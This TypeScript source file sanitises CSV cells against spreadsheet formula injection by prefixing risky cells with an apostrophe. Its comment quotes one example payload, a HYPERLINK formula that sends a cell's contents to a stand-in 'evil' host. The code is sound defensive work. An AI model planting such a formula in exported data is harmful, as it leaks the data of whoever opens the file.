// CSV cells that a spreadsheet would run as a formula. A text cell that starts with = + - @, a
// tab or a carriage return is a formula (or becomes one) in Excel, LibreOffice and Google
// Sheets: `=HYPERLINK("http://evil/?"&A1)` in a peer's name, a label or a reason would run when
// the file is opened. Such a cell gets a leading apostrophe, which spreadsheets show as text;
// numbers (negative ones included, as numbers or as numeric text) are left as they are.
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMERIC_TEXT = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

export function spreadsheetSafe<T extends string | number>(cell: T): T | string {
  if (typeof cell !== 'string' || !FORMULA_START.test(cell) || NUMERIC_TEXT.test(cell)) return cell;
  return `'${cell}`;
}
